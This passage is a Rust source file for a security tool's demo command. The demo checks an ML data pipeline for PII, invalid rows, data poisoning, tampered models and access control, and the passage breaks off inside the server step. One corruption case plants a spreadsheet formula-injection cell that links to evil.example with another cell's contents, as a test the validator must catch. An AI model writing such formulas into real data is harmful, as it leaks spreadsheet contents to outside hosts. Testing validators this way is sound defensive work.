//! `mlguard demo`: the product's front door. Runs each capability on a generated dataset
//! and shows it at work, in a few lines per step.
//!
//! The demo is a list of steps sharing one [`Demo`] context; later capabilities add a
//! step (and, if needed, a field of the context). A step that does not see what it must
//! (a clean file rejected, a corruption missed) records a failure and the demo exits 1.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Instant;

use anyhow::Context;
use mlguard_data::{InferOptions, Schema, ValidateOptions, synth};
use mlguard_findings::{Level, Report};

use crate::args::DemoArgs;
use crate::data::summary_line;
use crate::output::{Out, thousands};
use crate::pipeline::local;

/// State shared by the steps.
struct Demo<'a> {
    out: &'a mut Out,
    dir: PathBuf,
    rows: u64,
    seed: u64,
    /// The clean dataset.
    data: PathBuf,
    /// The drafted schema, once inferred.
    schema: Option<Schema>,
    /// What went wrong, for the final verdict.
    failures: Vec<String>,
    /// The demo's vault, once created.
    vault: Option<mlguard_vault::Vault>,
    /// The trained model, once trained.
    model: Option<mlguard_vault::ModelRecord>,
    /// How long each step took.
    times: Vec<(&'static str, std::time::Duration)>,
    /// Whether the files are kept (`--out`): then the console's tokens are too.
    kept: bool,
}

type Step = fn(&mut Demo<'_>) -> anyhow::Result<()>;

/// The demo, in order.
const STEPS: &[(&str, &str, Step)] = &[
    ("generate", "Generate synthetic user data", generate),
    ("infer", "Draft a schema from the data", infer),
    ("pii", "Find personal data by its values (the names are only context)", find_pii),
    ("validate", "Validate the clean file", validate_clean),
    (
        "corrupt",
        "Corrupt copies of the file: each must be caught (personal data masked in reports)",
        corruptions,
    ),
    (
        "ingest",
        "Ingest into a vault: validate, protect personal data, check for poisoning, seal",
        ingest,
    ),
    ("train", "Train on the sealed dataset (secret split seed, sealed model)", train),
    ("predict", "Predict on fresh rows, then tamper with the stored model", predict),
    (
        "serve",
        "Serve over TLS: roles, a TOTP-protected export, the web console, a tamper-evident audit log",
        serve,
    ),
    ("scan", "Scan downloaded model files for hidden code (nothing is executed)", scan_models),
    ("audit", "Audit a typical ML training script, syntax error and all", audit_code),
];

pub(crate) fn run(a: &DemoArgs, out: &mut Out) -> anyhow::Result<ExitCode> {
    let _temp; // removed when the demo ends, unless --out was given
    let dir = match &a.out {
        Some(d) => {
            fs::create_dir_all(d).with_context(|| format!("cannot create {}", d.display()))?;
            d.clone()
        }
        None => {
            let t = tempfile::Builder::new().prefix("mlguard-demo-").tempdir()?;
            let p = t.path().to_owned();
            _temp = t;
            p
        }
    };
    let data = dir.join("user_data.csv");
    let mut demo = Demo {
        out,
        dir,
        rows: a.rows,
        seed: a.seed,
        data,
        schema: None,
        failures: Vec::new(),
        vault: None,
        model: None,
        times: Vec::new(),
        kept: a.out.is_some(),
    };
    let title = demo.out.bold("mlguard demo");
    demo.out.line(&format!(
        "{title}: the safeguards of an ML data pipeline, on {} synthetic users",
        thousands(a.rows)
    ))?;
    for (i, (short, name, step)) in STEPS.iter().enumerate() {
        let header = demo.out.bold(&format!("[{}/{}] {name}", i + 1, STEPS.len()));
        demo.out.line(&header)?;
        let t = Instant::now();
        step(&mut demo)?;
        demo.times.push((short, t.elapsed()));
    }
    let total: std::time::Duration = demo.times.iter().map(|(_, d)| *d).sum();
    let times: Vec<String> = demo.times.iter().map(|(s, d)| format!("{s} {}", ms(*d))).collect();
    demo.out.line(&demo.out.dim(&format!("time: {} = {}", times.join(" · "), ms(total))))?;
    if demo.failures.is_empty() {
        let ok = demo.out.good("All checks behaved as expected.");
        let kept = match &a.out {
            Some(_) => format!(
                " Files kept in {dir}; its web console: mlguard serve --vault {dir}/vault --key-file {dir}/vault.key --tls-self-signed, then https://127.0.0.1:8443/ui/ with a token from {dir}/console-tokens.txt.",
                dir = demo.dir.display()
            ),
            None => String::new(),
        };
        demo.out.line(&format!("{ok}{kept} Try it on your own data:"))?;
        demo.out.line("  mlguard data infer-schema data.csv -o s.json && mlguard init --key-file v.key && mlguard data ingest data.csv -s s.json --name d")?;
        demo.out.line("  mlguard train --dataset d && mlguard predict --model d new.csv -o p.csv; mlguard scan model downloads/ && mlguard scan code src/")?;
        Ok(ExitCode::SUCCESS)
    } else {
        let bad = demo.out.bad("The demo failed:");
        demo.out.line(&bad)?;
        for f in &demo.failures {
            demo.out.line(&format!("  - {f}"))?;
        }
        Ok(ExitCode::from(1))
    }
}

fn generate(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let t = Instant::now();
    let file =
        fs::File::create(&d.data).with_context(|| format!("cannot create {}", d.data.display()))?;
    synth::write_user_data(file, d.rows, d.seed)?;
    let size = fs::metadata(&d.data)?.len();
    let line = format!(
        "  {} rows × {} columns ({:.1} MB) in {} ms: ids, names, e-mails, phones, SSNs, birth dates, ZIPs, 20 features, 2 categories, a label",
        thousands(d.rows),
        synth::USER_DATA_HEADER.len(),
        size as f64 / 1e6,
        t.elapsed().as_millis()
    );
    d.out.line(&line)?;
    Ok(())
}

fn find_pii(d: &mut Demo<'_>) -> anyhow::Result<()> {
    use mlguard_data::pii::{ColumnHint, scan_table};
    let t = Instant::now();
    let file =
        fs::File::open(&d.data).with_context(|| format!("cannot read {}", d.data.display()))?;
    let columns =
        scan_table(std::io::BufReader::new(file), b',', &ColumnHint::from_name, |_, _, _, _| {})?;
    let found: Vec<String> = columns
        .iter()
        .filter_map(|c| c.kinds.keys().next().map(|k| format!("{} {}", c.name, k.as_str())))
        .collect();
    let scanned: u64 = columns.iter().map(|c| c.cells).sum();
    let took = t.elapsed().as_millis();
    if found.len() != 6 {
        d.failures
            .push(format!("expected 6 columns of personal data, found {}: {found:?}", found.len()));
    }
    // Beyond US/UK English: cells as European records write them, each with its kind.
    let cells = [
        ("née le 5 septembre 1991 à Lyon", "DATE_OF_BIRTH"),
        ("NIR 2 95 10 99 126 111 93", "FR_NIR"),
        ("appeler le 0033 4 93 15 34 85", "PHONE"),
        ("81, rue Schmitt, 06229 Faure", "STREET_ADDRESS"),
        ("Sehr geehrte Frau Müller-Lüdenscheidt", "PERSON"),
        ("codice fiscale RCCMNL83S18D969H", "IT_FISCAL_CODE"),
        ("DNI 54362315-K", "ES_DNI"),
        ("PESEL 44051401359", "PL_PESEL"),
    ];
    let mut kinds = Vec::new();
    for (cell, want) in cells {
        let got: Vec<&str> =
            mlguard_data::pii::detect(cell, None).iter().map(|s| s.kind.as_str()).collect();
        if !got.contains(&want) {
            d.failures.push(format!("{want} not found in {cell:?} (found {got:?})"));
        }
        kinds.push(want);
    }
    d.out.line(&format!(
        "  {} of {} columns in {took} ms ({} cells): {}; and in European records: {}",
        found.len(),
        columns.len(),
        thousands(scanned),
        found.join(", "),
        kinds.join(", ")
    ))?;
    Ok(())
}

fn infer(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let inferred = mlguard_data::infer_path(&d.data, &InferOptions::default())?;
    let mut schema = inferred.schema;
    // A draft's observed ranges are information (x-observed); a reviewer turns what is a
    // rule of the domain into a constraint.
    if let Some(age) = schema.fields.iter_mut().find(|f| f.name == "age") {
        age.constraints.minimum = Some(0.into());
        age.constraints.maximum = Some(120.into());
    }
    let text = serde_json::to_string_pretty(&schema.to_json())?;
    fs::write(d.dir.join("schema.json"), text)?;
    let with = |pred: fn(&mlguard_data::Field) -> bool| -> Vec<&str> {
        schema.fields.iter().filter(|f| pred(f)).map(|f| f.name.as_str()).collect()
    };
    let id = with(|f| f.role == Some(mlguard_data::Role::Id)).join(", ");
    let target = with(|f| f.role == Some(mlguard_data::Role::Target)).join(", ");
    let required = with(|f| f.constraints.required).len();
    let enums = with(|f| f.constraints.enum_values.is_some()).join(", ");
    let pii: Vec<String> =
        schema.fields.iter().filter_map(|f| f.pii.map(|k| format!("{} ({k})", f.name))).collect();
    d.out.line(&format!(
        "  {} fields, {required} required; id: {id}; target: {target}; enums: {enums}; observed ranges kept as information, age 0-120 set as a rule",
        schema.fields.len()
    ))?;
    d.out.line(&format!("  personal data: {}", pii.join(", ")))?;
    if id.is_empty() || target.is_empty() || pii.len() < 6 {
        d.failures.push("the drafted schema missed the id, the target or personal data".into());
    }
    d.schema = Some(schema);
    Ok(())
}

fn validate_file(d: &Demo<'_>, path: &Path) -> anyhow::Result<Report> {
    let schema = d.schema.as_ref().context("no schema: the infer step did not run")?;
    let opts = ValidateOptions { max_errors: 5, ..ValidateOptions::default() };
    let mut report = mlguard_data::validate_path(path, schema, &opts)?;
    // The temporary directory is noise on screen: show the file name.
    if let Some(name) = path.file_name() {
        report.subject = name.to_string_lossy().into_owned();
    }
    Ok(report)
}

fn validate_clean(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let t = Instant::now();
    let report = validate_file(d, &d.data)?;
    let ms = t.elapsed().as_millis();
    let line = summary_line(&report, d.out);
    // The same table as a European spreadsheet export often arrives: `;`-separated,
    // gzip-compressed. Read by its content, its delimiter sniffed.
    let text = fs::read_to_string(&d.data)?;
    let eu = d.dir.join("user_data-eu.csv.gz");
    let mut gz = flate2::write::GzEncoder::new(fs::File::create(&eu)?, flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, text.replace(',', ";").as_bytes())?;
    gz.finish()?;
    let (src, sniffed) = mlguard_data::input::open_path(&eu, None)?;
    let schema = d.schema.as_ref().context("no schema: the infer step did not run")?;
    let opts = ValidateOptions {
        delimiter: sniffed.delimiter.unwrap_or(b','),
        max_errors: 5,
        ..ValidateOptions::default()
    };
    let eu_report = mlguard_data::validate_reader(src, "user_data-eu.csv.gz", schema, &opts)?;
    let eu_ok = eu_report.errors() == 0 && sniffed.compression == Some("gzip");
    let verdict = if eu_ok { d.out.good("valid") } else { d.out.bad("INVALID") };
    d.out.line(&format!("  {line} ({ms} ms); as a gzip of ';'-separated text: {verdict}"))?;
    if report.errors() > 0 || report.warnings() > 0 || !eu_ok {
        d.failures.push("the clean file was not clean".into());
    }
    Ok(())
}

/// One way to damage the file, and the check that must catch it.
struct Corruption {
    what: &'static str,
    expect: &'static str,
    /// Changes the fields of data row `row` (1-based); `rows` are all data rows.
    apply: fn(rows: &mut [Vec<String>]),
}

fn col(name: &str) -> usize {
    synth::USER_DATA_HEADER.iter().position(|h| *h == name).unwrap_or(0)
}

const CORRUPTIONS: &[Corruption] = &[
    Corruption {
        what: "null in a required field",
        expect: "constraint.required",
        apply: |r| r[2][col("income")].clear(),
    },
    Corruption {
        what: "value out of range",
        expect: "constraint.maximum",
        apply: |r| r[4][col("age")] = "212".into(),
    },
    Corruption {
        what: "value outside the enum",
        expect: "constraint.enum",
        apply: |r| r[6][col("plan")] = "platinum".into(),
    },
    Corruption {
        what: "not a number",
        expect: "cell.type",
        apply: |r| r[8][col("credit_score")] = "n/a".into(),
    },
    Corruption {
        what: "duplicate primary key",
        expect: "key.primary",
        apply: |r| r[10][col("user_id")] = r[1][col("user_id")].clone(),
    },
    Corruption {
        what: "ragged row",
        expect: "csv.ragged-row",
        apply: |r| {
            r[12].pop();
        },
    },
    Corruption {
        what: "formula injection",
        expect: "cell.formula-injection",
        apply: |r| {
            r[14][col("full_name")] =
                "\"=HYPERLINK(\"\"http://evil.example/?\"\"&C2,\"\"Open\"\")\"".into()
        },
    },
];

fn corruptions(d: &mut Demo<'_>) -> anyhow::Result<()> {
    // Corruptions touch the first rows only: parse those, copy the rest as bytes.
    const HEAD_ROWS: usize = 20;
    let text = fs::read_to_string(&d.data)?;
    let mut cut = 0;
    for _ in 0..=HEAD_ROWS {
        cut += text[cut..].find('\n').map_or(text.len() - cut, |n| n + 1);
    }
    let (head, tail) = text.split_at(cut);
    let mut lines = head.lines();
    let header = lines.next().unwrap_or_default().to_owned();
    let clean: Vec<Vec<String>> =
        lines.map(|l| l.split(',').map(str::to_owned).collect()).collect();
    let width = CORRUPTIONS.iter().map(|c| c.what.len()).max().unwrap_or(0);
    for (i, c) in CORRUPTIONS.iter().enumerate() {
        let mut rows = clean.clone();
        (c.apply)(&mut rows);
        let mut body = header.clone();
        body.push('\n');
        for r in &rows {
            body.push_str(&r.join(","));
            body.push('\n');
        }
        body.push_str(tail);
        let path = d.dir.join(format!("corrupt-{}.csv", i + 1));
        fs::write(&path, body)?;
        let report = validate_file(d, &path)?;
        let hit = report.findings.iter().find(|f| f.check == c.expect);
        match hit {
            Some(f) => {
                let mark = d.out.good("caught");
                let note = if f.level == Level::Error {
                    ""
                } else {
                    " (a warning; an error with --strict)"
                };
                let loc = match (&f.location.line, &f.location.field) {
                    (Some(l), Some(field)) => format!("line {l} [{field}]"),
                    (Some(l), None) => format!("line {l}"),
                    _ => String::new(),
                };
                let value = f
                    .value
                    .as_deref()
                    .map(|v| format!(" {}", d.out.dim(&format!("{v:?}"))))
                    .unwrap_or_default();
                d.out.line(&format!(
                    "  {mark}  {:<width$}  {}[{}] {loc}{value}{note}",
                    c.what, f.level, c.expect
                ))?;
            }
            None => {
                let mark = d.out.bad("MISSED");
                d.out.line(&format!("  {mark} {:<width$}  expected {}", c.what, c.expect))?;
                d.failures.push(format!("{} was not caught", c.what));
            }
        }
        let _ = fs::remove_file(&path);
    }
    Ok(())
}

fn ms(d: std::time::Duration) -> String {
    if d.as_secs_f64() >= 1.0 {
        format!("{:.1} s", d.as_secs_f64())
    } else {
        format!("{} ms", d.as_millis())
    }
}

/// The drafted schema, with an action for each field of personal data.
fn protected_schema(d: &Demo<'_>) -> anyhow::Result<Schema> {
    use mlguard_data::{PiiKind, Protect};
    let mut schema = d.schema.clone().context("no schema: the infer step did not run")?;
    for f in &mut schema.fields {
        f.protect = f.pii.map(|p| match p {
            PiiKind::Ssn | PiiKind::NationalId | PiiKind::CreditCard => Protect::Mask,
            PiiKind::DateOfBirth | PiiKind::PostalCode | PiiKind::IpAddress => Protect::Generalize,
            _ => Protect::Pseudonymize,
        });
    }
    Ok(schema)
}

fn ingest(d: &mut Demo<'_>) -> anyhow::Result<()> {
    use mlguard_data::protect::ProtectOptions;
    use mlguard_seal::{Secret, SignerPolicy};
    let root = d.dir.join("vault");
    let key_file = d.dir.join("vault.key");
    let _ = fs::remove_dir_all(&root);
    let _ = fs::remove_file(&key_file);
    let store = mlguard_vault::Vault::init(&root, &Secret::create_key_file(&key_file)?)?;
    let vault = mlguard_vault::Vault::open(&root, &Secret::from_key_file(&key_file)?)?;
    let schema = protected_schema(d)?;
    let opts = mlguard_vault::IngestOptions {
        protect: ProtectOptions { k: 5, ..ProtectOptions::default() },
        ..mlguard_vault::IngestOptions::default()
    };
    let ingested = vault.ingest(local(), &d.data, &schema, "users", &opts)?;
    let p = &ingested.protection;
    let r = &ingested.record;
    let level = |col: &str| {
        p.anonymity.as_ref().and_then(|a| a.generalised.iter().find(|g| g.0 == col)).cloned()
    };
    let zip = level("zip_code").map_or(0, |g| g.2);
    let years = match level("date_of_birth") {
        Some((_, what, l, _)) if l > 0 => format!("birth years in {what}"),
        _ => "birth years".to_owned(),
    };
    let (k, l) = p
        .anonymity
        .as_ref()
        .map_or((0, 0), |a| (a.achieved, a.l_diversity.as_ref().map_or(0, |x| x.1)));
    d.out.line(&format!(
        "  users@{}: names, e-mails, phones → HMAC pseudonyms; SSNs redacted; {years}; {}; k ≥ 5 (smallest group {k}, {} rows suppressed, l = {l})",
        r.version,
        match 3usize.saturating_sub(zip) {
            0 => "ZIPs withheld".to_owned(),
            n => format!("ZIP{n}"),
        },
        thousands(p.suppressed.len() as u64),
    ))?;
    if k < 5 || ingested.poison.failed() {
        d.failures.push(format!(
            "the clean batch: k = {k}, poisoning flagged: {}",
            ingested.poison.failed()
        ));
    }
    // The sealed object as stored (through the vault's object port).
    let mut bytes = Vec::new();
    vault.objects().get(&r.object)?.read_to_end(&mut bytes)?;
    let sealed_size = bytes.len() as u64;
    if let Err(e) = mlguard_seal::verify(
        &mut std::io::Cursor::new(&bytes),
        &vault.keys(),
        SignerPolicy::TrustedOnly,
    ) {
        d.failures.push(format!("the sealed dataset did not verify: {e}"));
    }
    let at = bytes.len() / 2;
    bytes[at] ^= 0x01;
    let tampered = d.dir.join("tampered.mlseal");
    fs::write(&tampered, &bytes)?;
    let refused = mlguard_seal::verify(
        &mut fs::File::open(&tampered)?,
        &vault.keys(),
        SignerPolicy::TrustedOnly,
    )
    .is_err();
    let _ = fs::remove_file(&tampered);
    d.out.line(&format!(
        "  {} rows sealed ({} bytes AES-256-GCM), signed by {}, {}; one flipped bit at byte {at}: {}",
        thousands(r.rows),
        thousands(sealed_size),
        &store.signing_public()?.key_id()[..16],
        d.out.good("verified"),
        if refused { d.out.good("refused") } else { d.out.bad("ACCEPTED") }
    ))?;
    if !refused {
        d.failures.push("a tampered dataset verified".into());
    }

    // A second batch arrives poisoned: labels flipped, conflicting duplicates, a flood.
    let batch = d.dir.join("batch2.csv");
    let (flipped, pairs, flood) =
        write_poisoned_batch(&batch, &schema, (d.rows / 5).max(1000), d.seed)?;
    let second = vault.ingest(local(), &batch, &schema, "users", &opts)?;
    let c = &second.poison;
    // Pairs k-anonymity suppressed a row of are not in the stored batch.
    let gone = &second.protection.suppressed;
    let kept = pairs.iter().filter(|(a, b)| !gone.contains(a) && !gone.contains(b)).count();
    let verdict = if c.failed() { d.out.bad("FLAGGED") } else { d.out.bad("MISSED") };
    d.out.line(&format!(
        "  users@{} ({flipped} labels flipped, {} copies relabelled, a {flood}-row flood): {verdict}: {}/{kept} conflicting pairs, {} flood(s), {} doubted labels, {} drifted column(s)",
        second.record.version,
        pairs.len(),
        c.conflicts,
        c.floods,
        c.label_issues,
        c.drifted.unwrap_or(0),
    ))?;
    if !c.failed() || c.conflicts < kept || c.floods == 0 {
        d.failures.push("the poisoned batch was not flagged".into());
    }
    let _ = fs::remove_file(&batch);
    d.vault = Some(vault);
    Ok(())
}

/// Two data rows (1-based): an original and its relabelled copy.
type RowPair = (u64, u64);

/// A fresh batch of users with poison in it: 5 % of labels flipped, some rows copied with
/// the opposite label (new ids, so the copies are not mere duplicate keys), and one row
/// repeated many times; rows outside the drafted schema's ranges are left out, so the
/// batch is valid and only the poisoning checks can tell. Returns the labels flipped, the
/// (original, copy) data rows of the relabelled copies, and the flood's size.
fn write_poisoned_batch(
    path: &Path,
    schema: &Schema,
    rows: u64,
    seed: u64,
) -> anyhow::Result<(u64, Vec<RowPair>, u64)> {
    let mut clean = Vec::new();
    synth::write_user_data(&mut clean, rows, seed.wrapping_add(2))?;
    let opts = ValidateOptions { max_errors: usize::MAX, ..ValidateOptions::default() };
    let report = mlguard_data::validate_reader(&clean[..], "batch", schema, &opts)?;
    let bad: Vec<u64> = report.findings.iter().filter_map(|f| f.location.line).collect();
    let text = String::from_utf8(clean)?;
    let mut lines = text.lines().enumerate().filter(|(i, _)| !bad.contains(&(*i as u64 + 1)));
    let header = lines.next().context("empty batch")?.1;
    let label = synth::USER_DATA_HEADER.len() - 1;
    let flip = |cells: &mut Vec<String>| {
        cells[label] = if cells[label] == "1" { "0".into() } else { "1".into() };
    };
    let mut out = vec![header.to_owned()];
    let mut rng = synth::SynthRng::new(seed ^ 0x9e37_79b9);
    let mut rows_read: Vec<Vec<String>> = Vec::new();
    let mut flipped = 0;
    let mut unflipped = Vec::new();
    for (_, line) in lines {
        let mut cells: Vec<String> = line.split(',').map(str::to_owned).collect();
        rows_read.push(cells.clone());
        if rng.uniform() < 0.05 {
            flip(&mut cells);
            flipped += 1;
        } else {
            unflipped.push(rows_read.len() - 1);
        }
        out.push(cells.join(","));
    }
    let mut next_id = rows + 1;
    let mut pairs = Vec::new();
    for &i in unflipped.iter().take(25) {
        let mut copy = rows_read[i].clone();
        copy[0] = next_id.to_string();
        next_id += 1;
        flip(&mut copy);
        out.push(copy.join(","));
        pairs.push((i as u64 + 1, out.len() as u64 - 1));
    }
    let flood = (rows / 50).max(20);
    for _ in 0..flood {
        let mut copy = rows_read[rows_read.len() - 1].clone();
        copy[0] = next_id.to_string();
        next_id += 1;
        out.push(copy.join(","));
    }
    out.push(String::new());
    fs::write(path, out.join("\n"))?;
    Ok((flipped, pairs, flood))
}

fn train(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let vault = d.vault.as_mut().context("no vault: the ingest step did not run")?;
    let req = mlguard_vault::TrainRequest {
        dataset: "users".into(),
        version: Some(1), // not the flagged batch
        target: None,
        test_size: 0.2,
        fit: mlguard_learn::FitOptions::default(),
        seed: mlguard_vault::SeedPolicy::Secure,
        name: Some("churn".into()),
        accept_flagged: false,
    };
    // The flagged batch is refused unless someone accepts it.
    let flagged = mlguard_vault::TrainRequest { version: Some(2), ..req.clone() };
    let refused =
        matches!(vault.train(local(), &flagged), Err(mlguard_vault::VaultError::Flagged(_)));
    if !refused {
        d.failures.push("training on the flagged batch was not refused".into());
    }
    let m = vault.train(local(), &req)?;
    let metrics = &m.trained.model.info.metrics;
    d.out.line(&format!(
        "  churn@{}: {} train / {} test rows, {} features; accuracy {:.3}, ROC AUC {:.3}, F1 {:.3}",
        m.record.version,
        thousands(m.trained.train_rows as u64),
        thousands(m.trained.test_rows as u64),
        m.trained.model.info.encoding.width(),
        metrics.accuracy,
        metrics.roc_auc,
        metrics.f1
    ))?;
    // Reproduced as a table larger than memory trains: its feature values spilled to
    // encrypted scratch files (64 KiB held) and read back per pass of the fit.
    vault.set_train_memory_limit(64 << 10);
    let reproduced = vault.reproduce(local(), "churn", Some(m.record.version));
    vault.set_train_memory_limit(mlguard_learn::DEFAULT_MEMORY_LIMIT);
    let (_, identical) = reproduced?;
    if !identical {
        d.failures.push("reproducing the model gave different weights".into());
    }
    if metrics.accuracy < 0.8 {
        d.failures.push(format!("accuracy {:.3} is implausibly low", metrics.accuracy));
    }
    // A model made elsewhere (here churn's own export, as a scikit-learn model converted
    // by the Python package would arrive) stored bound to the dataset it was fitted on;
    // one that reads a column the dataset does not have is refused.
    let (_, exported) = vault.export_model(local(), "churn")?;
    let import = |name: &str| mlguard_vault::ImportRequest {
        name: name.into(),
        dataset: "users@1".into(),
        accept_flagged: false,
    };
    let (imported, model) =
        vault.import_model(local(), &exported.to_safetensors(), &import("churn-imported"))?;
    let mut stray = exported.clone();
    if let Some(f) = stray.info.encoding.numeric.first_mut() {
        f.name = "shoe_size".into();
    }
    let stray_refused = matches!(
        vault.import_model(local(), &stray.to_safetensors(), &import("stray")),
        Err(mlguard_vault::VaultError::BadModel(_))
    );
    let same = model.logistic == m.trained.model.logistic;
    d.out.line(&format!(
        "  trained on users@1 (users@2, flagged, {} without --accept-flagged), personal data left out; model sealed; `train --reproduce` spilled to encrypted scratch (64 KiB in memory): weights {}; its export imported (`model import`) as {}@{}: {}, one reading a column users@1 lacks: {}",
        if refused { d.out.good("refused") } else { d.out.bad("TRAINED") },
        if identical { d.out.good("bit-identical") } else { d.out.bad("DIFFERENT") },
        imported.name,
        imported.version,
        if same { d.out.good("same weights") } else { d.out.bad("DIFFERENT") },
        if stray_refused { d.out.good("refused") } else { d.out.bad("STORED") }
    ))?;
    if !same || !stray_refused {
        d.failures.push("model import stored the wrong thing".into());
    }
    d.model = Some(m.record);
    Ok(())
}

fn predict(d: &mut Demo<'_>) -> anyhow::Result<()> {
    let vault = d.vault.as_ref().context("no vault")?;
    let record = d.model.clone().context("no model: the train step did not run")?;
    let fresh = d.dir.join("fresh.csv");
    synth::write_user_data(fs::File::create(&fresh)?, 1000, d.seed.wrapping_add(1))?;
    let mut out = Vec::new();
    let model = format!("{}@{}", record.name, record.version);
    let p = vault.predict(local(), &model, &fresh, &mut out)?;
    let positives = String::from_utf8_lossy(&out)
        .lines()
        .skip(1)
        .filter(|l| l.split(',').nth(2) == Some("1"))
        .count();
    d.out.line(&format!(
        "  model verified before loading; {} fresh rows predicted ({} rejected by the training schema), {} predicted to churn",
        thousands(p.predicted),
        p.rejected.len(),
        thousands(positives as u64)
    ))?;
    let object = d.dir.join("vault/objects").join(&record.object);
    let mut bytes = fs::read(&object)?;
    let at = bytes.len() - 100;
    bytes[at] ^= 0x01;
    fs::write(&object, &bytes)?;
    match vault.predict(local(), &model, &fresh, &mut Vec::new()) {
        Ok(_) => {
            d.out.line(&format!("  {} a tampered model was loaded", d.out.bad("MISSED")))?;
            d.failures.push("a tampered model was used".into());
        }
        Err(e) => d.out.line(&format!(
            "  {}  a model with one flipped bit, before parsing a byte: {e}",
            d.out.good("refused")
        ))?,
    }
    // The bit flipped back: the model is served in the next step.
    bytes[at] ^= 0x01;
    fs::write(&object, &bytes)?;
    let _ = fs::remove_file(&fresh);
    Ok(())
}

/// Fresh user rows as JSON objects (numbers as numbers), for the prediction API.
fn json_rows(rows: u64, seed: u64) -> anyhow::Result<Vec<serde_json::Value>> {
    let mut csv = Vec::new();
    synth::write_user_data(&mut csv, rows, seed)?;
    let text = String::from_utf8(csv)?;
    let mut lines = text.lines();
    let header: Vec<&str> = lines.next().context("empty")?.split(',').collect();
    Ok(lines
        .map(|l| {
            let obj: serde_json::Map<String, serde_json::Value> = header
                .iter()
                .zip(l.split(','))
                .map(|(h, c)| {
                    let v = c.parse::<f64>().map_or_else(|_| c.into(), serde_json::Value::from);
                    ((*h).to_owned(), v)
                })
                .collect();
            serde_json::Value::Object(obj)
        })
        .collect())
}

fn serve(d: &mut Demo<'_>) -> anyhow::Result<()> {
    use mlguard_server::{AppState, Certificate};
    use mlguard_vault::identity::{TotpAlg, totp_code};
    use std::sync::Arc;
    let vault = d.vault.take().context("no vault: the ingest step did not run")?;
    let mut tokens = Vec::new();
    let mut secret = Vec::new();
    for (user, role) in [
        ("carol", "model-consumer"),
        ("sam", "data-scientist"),
        ("ada", "auditor"),
        ("sue", "data-steward"),
    ] {
        vault.add_user(local(), user, role)?;
        if user == "sam" {
            let uri = vault.enroll_mfa(local(), user, TotpAlg::Sha1)?;
            secret =
                mlguard_vault::identity::otpauth_secret(&uri).context("no secret in the URI")?;
        }
        tokens.push(vault.create_token(local(), user, None)?.1.to_string());
    }
    let cert = Certificate::self_signed()?;
    let tls = cert.server_config()?;
    let state = AppState::new(vault)?;
    let rows = json_rows(100, d.seed.wrapping_add(3))?;
    let schema_json = protected_schema(d)?.to_json().to_string();
    let data = fs::read(&d.data)?;
    let runtime =
        tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
    let (statuses, port, exported, predicted, uploaded, shown) = runtime.block_on(async {
        let server =
            mlguard_server::start(Arc::clone(&state), "127.0.0.1:0".parse()?, Some(tls)).await?;
        let addr = server.addr;
        let client_tls = cert.client_config()?;
        let client = reqwest::Client::builder().use_preconfigured_tls(client_tls).build()?;
        let url = |p: &str| format!("https://localhost:{}{p}", addr.port());
        let auth = |t: &str| format!("Bearer {t}");
        let predict = client
            .post(url("/v1/models/churn/predict"))
            .header("authorization", auth(&tokens[0]))
            .json(&serde_json::json!({ "rows": rows }))
            .send()
            .await?;
        let p_status = predict.status().as_u16();
        // A data steward streams the data in: ingested by the server, as by the CLI.
        let upload = |token: &str| {
            let form = reqwest::multipart::Form::new()
                .text("schema", schema_json.clone())
                .part("data", reqwest::multipart::Part::bytes(data.clone()));
            client
                .post(url("/v1/datasets/users"))
                .header("authorization", auth(token))
                .multipart(form)
                .send()
        };
        let refused = upload(&tokens[0]).await?.status().as_u16();
        let up = upload(&tokens[3]).await?;
        let up_status = up.status().as_u16();
        let up_body: serde_json::Value = up.json().await?;
        let body: serde_json::Value = predict.json().await?;
        let predicted = body["results"]
            .as_array()
            .map_or(0, |r| r.iter().filter(|x| x["prediction"].is_string()).count());
        let train = client
            .post(url("/v1/models/train"))
            .header("authorization", auth(&tokens[0]))
            .json(&serde_json::json!({"dataset": "users@1"}))
            .send()
            .await?
            .status()
            .as_u16();
        let export = |code: Option<String>| {
            let mut r = client
                .post(url("/v1/models/churn/export"))
                .header("authorization", auth(&tokens[1]));
            if let Some(c) = code {
                r = r.header("x-mlguard-totp", c);
            }
            r.send()
        };
        let no_code = export(None).await?.status().as_u16();
        let code = totp_code(&secret, TotpAlg::Sha1, mlguard_vault::identity::now_secs());
        let with_code = export(Some(code)).await?;
        let w_status = with_code.status().as_u16();
        let exported = with_code.bytes().await?.len();
        let verify: serde_json::Value = client
            .post(url("/v1/audit/verify"))
            .header("authorization", auth(&tokens[2]))
            .send()
            .await?
            .json()
            .await?;
        // The web console: the auditor signs in (a token, the form's anti-forgery token
        // bound to its cookie) and opens the audit log; the consumer's role may not sign in.
        let no_redirects = reqwest::Client::builder()
            .use_preconfigured_tls(cert.client_config()?)
            .redirect(reqwest::redirect::Policy::none())
            .build()?;
        let console = |token: String| {
            let (client, url) = (no_redirects.clone(), url("/ui/sign-in"));
            async move {
                let form = client.get(&url).send().await?;
                let pre = cookie(form.headers(), "__Host-mlguard-sign-in").unwrap_or_default();
                let csrf = pre.split_once('=').map(|(_, v)| v.to_owned()).unwrap_or_default();
                let signed = client
                    .post(&url)
                    .header("cookie", pre)
                    .form(&[("token", token.as_str()), ("csrf", csrf.as_str())])
                    .send()
                    .await?;
                anyhow::Ok((
                    signed.status().as_u16(),
                    cookie(signed.headers(), "__Host-mlguard-session"),
                ))
            }
        };
        let (consumer_signs_in, _) = console(tokens[0].clone()).await?;
        let (auditor_signs_in, session) = console(tokens[2].clone()).await?;
        let page = no_redirects
            .get(url("/ui/audit"))
            .header("cookie", session.unwrap_or_default())
            .send()
            .await?;
        let page_status = page.status().as_u16();
        let html = page.text().await?;
        let shown = html.matches("<tr class=\"outcome-").count();
        server.stop().await?;
        anyhow::Ok((
            [
                p_status,
                train,
                no_code,
                w_status,
                u16::from(verify["ok"] == true),
                up_status,
                refused,
                auditor_signs_in,
                page_status,
                consumer_signs_in,
            ],
            addr.port(),
            exported,
            predicted,
            (up_body["dataset"].as_str().unwrap_or("?").to_owned(), up_body["rows"].as_u64()),
            shown,
        ))
    })?;
    d.out.line(&format!(
        "  https://localhost:{port} (self-signed, rustls): consumer predicts {predicted}/100 rows [{}], may not train [{}]; export without TOTP [{}], with [{}, {} bytes]",
